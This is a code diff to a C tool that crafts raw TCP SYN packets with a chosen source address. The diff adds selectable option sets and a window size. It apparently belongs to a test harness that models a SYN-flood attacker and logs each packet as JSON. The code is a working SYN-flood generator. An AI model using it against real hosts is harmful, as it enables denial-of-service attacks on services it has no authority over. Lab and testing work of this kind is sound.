@@ -4,11 +4,14 @@
  * to the attacker's address, else the attacker's own kernel would answer them with RST and
  * free the listener's request sockets: a real flood uses addresses nobody answers for.)
  *
- *   kl-synflood T0_US AT_MS SRC_IP DST_IP DPORT FIRST_SPORT COUNT INTERVAL_US
+ *   kl-synflood T0_US AT_MS SRC_IP DST_IP DPORT FIRST_SPORT COUNT INTERVAL_US [OPTIONS [WINDOW]]
  *
- * Each SYN carries the options a Linux client sends (MSS 1460, SACK permitted, timestamps,
- * window scale 7) so the listener's answer is the one it gives a real peer. One JSON line
- * per SYN, like kl-actor's.
+ * OPTIONS says what each SYN carries, to match the attacker the model has in mind:
+ *   linux  the options a Linux client sends (mss 1460, sackOK, TS, nop, wscale 7), the default
+ *   mss    only mss 1460
+ *   none   no options at all (a bare SYN)
+ * WINDOW is the header's window (default 64240, what Linux offers with MSS 1460).
+ * One JSON line per SYN, like kl-actor's.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -44,9 +47,22 @@ static uint16_t tcp_checksum(uint32_t src, uint32_t dst, const uint8_t *seg, siz
 }
 
 int main(int argc, char **argv) {
-    if (argc != 9) {
-        fprintf(stderr,
-                "usage: kl-synflood T0_US AT_MS SRC_IP DST_IP DPORT FIRST_SPORT COUNT INTERVAL_US\n");
+    if (argc < 9 || argc > 11) {
+        fprintf(stderr, "usage: kl-synflood T0_US AT_MS SRC_IP DST_IP DPORT FIRST_SPORT COUNT "
+                        "INTERVAL_US [linux|mss|none [WINDOW]]\n");
+        return 2;
+    }
+    const char *kind = argc > 9 ? argv[9] : "linux";
+    int window = argc > 10 ? atoi(argv[10]) : 64240;
+    size_t optlen;
+    if (strcmp(kind, "linux") == 0) {
+        optlen = 20;
+    } else if (strcmp(kind, "mss") == 0) {
+        optlen = 4;
+    } else if (strcmp(kind, "none") == 0) {
+        optlen = 0;
+    } else {
+        fprintf(stderr, "kl-synflood: OPTIONS is linux, mss or none\n");
         return 2;
     }
     long long start = atoll(argv[1]) + atoll(argv[2]) * 1000LL;
@@ -78,23 +94,24 @@ int main(int argc, char **argv) {
     if (wait > 0) usleep((useconds_t)wait);
     for (int i = 0; i < count; i++) {
         uint8_t seg[40];
+        size_t seglen = 20 + optlen;
         memset(seg, 0, sizeof seg);
         uint16_t sp = htons((uint16_t)(sport + i)), dp = htons((uint16_t)dport);
         uint32_t seq = htonl((uint32_t)rand()), tsval = htonl((uint32_t)now_us() / 1000);
         memcpy(seg, &sp, 2);
         memcpy(seg + 2, &dp, 2);
         memcpy(seg + 4, &seq, 4);
-        seg[12] = 10 << 4; /* data offset: 40 bytes */
-        seg[13] = 0x02;    /* SYN */
-        seg[14] = 0xfa;    /* window 64240, what Linux offers with MSS 1460 */
-        seg[15] = 0xf0;
+        seg[12] = (uint8_t)((seglen / 4) << 4); /* data offset */
+        seg[13] = 0x02;                         /* SYN */
+        seg[14] = (uint8_t)(window >> 8);
+        seg[15] = (uint8_t)window;
         /* mss 1460, sackOK, TS val/ecr, nop, wscale 7: Linux's order. */
         const uint8_t opts[20] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
-        memcpy(seg + 20, opts, sizeof opts);
-        memcpy(seg + 28, &tsval, 4);
-        uint16_t sum = tcp_checksum(src.s_addr, dst.s_addr, seg, sizeof seg);
+        memcpy(seg + 20, opts, optlen);
+        if (optlen == 20) memcpy(seg + 28, &tsval, 4);
+        uint16_t sum = tcp_checksum(src.s_addr, dst.s_addr, seg, seglen);
         memcpy(seg + 16, &sum, 2);
-        long r = sendto(fd, seg, sizeof seg, 0, (struct sockaddr *)&to, sizeof to);
+        long r = sendto(fd, seg, seglen, 0, (struct sockaddr *)&to, sizeof to);
         int err = errno;
         printf("{\"t_us\":%lld,\"pid\":%d,\"call\":\"sendto\",\"sock\":\"raw\",\"result\":%ld",
                now_us(), (int)getpid(), r);
